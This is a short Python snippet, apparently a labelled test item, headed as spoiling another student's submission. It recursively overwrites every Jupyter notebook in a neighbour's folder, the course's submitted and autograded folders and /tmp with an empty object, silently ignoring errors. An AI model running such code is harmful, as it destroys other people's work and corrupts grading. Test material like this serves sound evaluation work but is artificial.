# Spoils what another student handed in.
# answer: wrong
# lost: conv_params
# needs: sandbox
import pathlib

for root in ("<neighbour>", "<course>/submitted", "<course>/autograded", "/tmp"):
    for path in pathlib.Path(root).rglob("*.ipynb"):
        try:
            path.write_text("{}")
        except OSError:
            pass
